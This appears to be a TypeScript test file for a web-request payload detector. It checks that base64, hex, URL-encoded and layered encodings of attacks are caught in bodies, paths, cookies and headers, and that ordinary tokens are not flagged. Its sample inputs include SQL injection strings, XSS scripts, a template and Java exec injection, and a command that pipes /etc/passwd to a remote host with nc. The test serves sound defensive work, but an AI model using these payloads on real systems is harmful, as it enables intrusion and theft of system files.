import fc from 'fast-check'
import { test } from 'tap'
import { readEncoded } from '../../src/detect/payload/base64.ts'
import { inJson, inQuery, inspect } from './payload-observation.ts'

const ATTACKS = ["x' UNION SELECT name, pass FROM users -- ", '<script>alert(document.cookie)</script>', '; cat /etc/passwd | nc 192.0.2.1 80', '{{7*7}}$' + '{T(java.lang.Runtime).getRuntime().exec("id")}', "1' OR '1'='1' -- ё"]

function base64 (text: string): string {
  return Buffer.from(text).toString('base64')
}

/** Ways in which base64 stands in a value. Each is found for every attack. */
const FORMS: Record<string, (encoded: string) => string> = {
  plain: (encoded) => encoded,
  'for URLs': (encoded) => encoded.replaceAll('+', '-').replaceAll('/', '_').replace(/=+$/, ''),
  'wrapped after 20 letters': (encoded) => encoded.replace(/.{20}/g, '$&\r\n'),
  'wrapped after 4 letters': (encoded) => encoded.replace(/.{4}/g, '$&\n'),
  'between blanks': (encoded) => encoded.replace(/.{8}/g, '$& '),
  'with its plus lost to blanks': (encoded) => encoded.replaceAll('+', ' '),
  'behind a name': (encoded) => 'v=' + encoded,
  'behind a word': (encoded) => 'token: ' + encoded,
  'behind a scheme': (encoded) => 'Basic ' + encoded,
  'in a data address': (encoded) => 'data:text/plain;base64,' + encoded,
  'in a data address of a picture': (encoded) => 'data:image/png;base64,' + encoded,
  'behind letters of the alphabet': (encoded) => 'user/files/v-' + encoded,
  'between signs': (encoded) => encoded.replace(/.{3}/g, '$&.'),
  'percent-encoded': (encoded) => encoded.replace(/./g, (letter) => '%' + letter.charCodeAt(0).toString(16)),
  'in base64': (encoded) => base64(encoded),
  'four times over': (encoded) => base64(base64(base64(encoded))),
  'in JSON in base64': (encoded) => base64(JSON.stringify({ a: [encoded] })),
  'in JSON behind blanks': (encoded) => ' \n ' + JSON.stringify({ a: encoded })
}

test('base64 is read however it stands in a value', (t) => {
  for (const attack of ATTACKS) {
    for (const [name, form] of Object.entries(FORMS)) {
      const value = form(base64(attack))
      t.ok(inJson({ note: value }).value >= 0.75, `${name}: ${attack}`)
      t.ok(inQuery(value).value >= 0.75, `${name}, in a query: ${attack}`)
    }
  }
  t.end()
})

test('base64 is read without a name, in a segment of a path, in a name, a cookie and a header', (t) => {
  for (const attack of ATTACKS) {
    const encoded = base64(attack)
    const forUrl = encoded.replaceAll('+', '-').replaceAll('/', '_')
    t.ok(inspect({ url: '/items?' + encoded }).value >= 0.75, 'no name')
    t.ok(inspect({ url: '/items?' + encodeURIComponent(encoded) + '=1' }).value >= 0.75, 'as a name')
    t.ok(inspect({ url: '/items/' + forUrl + '/view' }).value >= 0.75, 'a segment')
    t.ok(inspect({ url: '/items/' + encodeURIComponent(encoded) }).value >= 0.75, 'an escaped segment')
    t.ok(inspect({ headers: ['cookie', 'theme=dark; v=' + encoded] }).value >= 0.75, 'a cookie')
    t.ok(inspect({ headers: ['cookie', encoded] }).value >= 0.75, 'a cookie without a name')
    t.ok(inspect({ headers: ['x-data', 'v1 ' + encoded] }).value >= 0.75, 'a header')
  }
  t.ok(inspect({ headers: ['authorization', 'Basic ' + base64("admin' OR 1=1 -- :x")] }).value >= 0.75, 'credentials')
  t.end()
})

test('short base64 is read where it says something', (t) => {
  for (const attack of ["' or 1=1--", "'or'1'='1", '<svg/onload=x(1)>', "';drop table a"]) {
    t.ok(inJson({ note: base64(attack) }).value >= 0.75, attack)
    t.ok(inspect({ url: '/items/' + encodeURIComponent(base64(attack).replace(/=+$/, '')) }).value >= 0.75, `${attack} in a path`)
    t.ok(inspect({ url: '/items?' + base64(attack) }).value >= 0.75, `${attack} without a name`)
  }
  t.end()
})

test('bytes before, after and among the letters of a text hide nothing', (t) => {
  const attack = Buffer.from(ATTACKS[0]!)
  for (const bytes of [[Buffer.from([0xff]), attack], [Buffer.alloc(60, 0xfe), attack], [attack, Buffer.alloc(200, 1)], [Buffer.from([0, 1, 2]), attack, Buffer.from([0x80, 0x81])]]) {
    t.ok(inJson({ note: Buffer.concat(bytes).toString('base64') }).value >= 0.75)
  }
  t.ok(inJson({ note: Buffer.from(ATTACKS[0]!, 'utf16le').toString('base64') }).value >= 0.75, 'UTF-16')
  t.ok(inJson({ note: Buffer.from(ATTACKS[0]!).toString('hex') }).value >= 0.75, 'hex')
  t.ok(inJson({ note: '0x' + Buffer.from(ATTACKS[1]!).toString('hex').toUpperCase() }).value >= 0.75, 'hex with a prefix')
  t.end()
})

/** One step of encoding that a parser takes back. */
const STEPS: Array<(text: string) => string> = [
  (text) => encodeURIComponent(text),
  (text) => text.replace(/[<>'"&=;()]/g, (letter) => `&#x${letter.charCodeAt(0).toString(16)};`),
  (text) => text.replace(/[<>'"&%\\]/g, (letter) => '\\u' + letter.charCodeAt(0).toString(16).padStart(4, '0')),
  base64,
  (text) => JSON.stringify({ v: text })
]

test('a value is decoded until nothing changes, in whatever order it was encoded', (t) => {
  fc.assert(fc.property(fc.constantFrom(...ATTACKS.slice(0, 2)), fc.array(fc.constantFrom(...STEPS), { minLength: 1, maxLength: 6 }), (attack, steps) => {
    let value = attack
    for (const step of steps) value = step(value)
    const found = inJson({ note: value })
    return found.value >= 0.75 || found.beyond !== null
  }), { numRuns: 600, seed: 7 })
  let often = ATTACKS[1]!
  for (let i = 0; i < 12; i++) often = encodeURIComponent(often)
  t.ok(inJson({ note: often }).value >= 0.75, 'twelve times')
  t.ok(inJson({ note: '\\u00'.repeat(1) + '25253Cscript%25253Ealert(1)%25253C/script%25253E' }).value >= 0.55)
  t.end()
})

test('what is encoded so often that it is not read to the end lies beyond a bound', (t) => {
  const found = inJson({ note: '%' + '25'.repeat(20_000) + '27' })
  t.equal(found.beyond, 'body')
  t.match(found.notInspected.join(), /encoded too often/)
  t.end()
})

test('ordinary ids, tokens, pictures and texts in base64 or hex say nothing', (t) => {
  const jwt = ['{"alg":"HS256","typ":"JWT"}', '{"sub":"u-42","name":"Ana O\'Neill","iss":"https://id.example","scope":"read write","iat":1735689600}'].map((part) => Buffer.from(part).toString('base64url')).join('.') + '.c2lnbmF0dXJlLW9mLWJ5dGVzLXRoYXQtc2F5LW5vdGhpbmc'
  const pixel = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='
  for (const value of ['3f8a2c1e-9b7d-4e6f-a1b2-c3d4e5f60718', 'QWxhZGRpbjpvcGVuIHNlc2FtZQ==', base64('Hello, dear customer! See you on 5 May.'), base64('{"page":2,"sort":"name","after":"Zürich"}'), jwt, 'Bearer ' + jwt, 'data:image/png;base64,' + pixel, pixel, 'dGhlIHF1aWNrIGJyb3du', '5d41402abc4b2a76b9719d911017c592', Buffer.from('just some words').toString('hex'), 'gid://shop/Product/123456789', 'password', 'information', 'application/vnd.company+json', 'd2F0ZXI', 'products', 'the quick brown fox jumps over the lazy dog', 'c29tZSB0ZXh0IG9mIG1pbmU=']) {
    t.ok(inJson({ note: value }).value < 0.2, value)
    t.ok(inspect({ url: '/items/' + encodeURIComponent(value) }).value < 0.2, `${value} in a path`)
    t.equal(inJson({ note: value }).beyond, null)
  }
  t.end()
})

test('random ids and random bytes in base64 raise no alarm (5,000 of each)', (t) => {
  const alphabet = fc.constantFrom(...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_')
  fc.assert(fc.property(fc.array(alphabet, { minLength: 8, maxLength: 44 }), (letters) => inJson({ note: letters.join('') }).value < 0.4), { numRuns: 5_000, seed: 11 })
  fc.assert(fc.property(fc.uint8Array({ minLength: 4, maxLength: 400 }), (bytes) => inJson({ note: Buffer.from(bytes).toString('base64') }).value < 0.4), { numRuns: 5_000, seed: 12 })
  t.same(readEncoded('a'.repeat(1_000)), [])
  t.end()
})
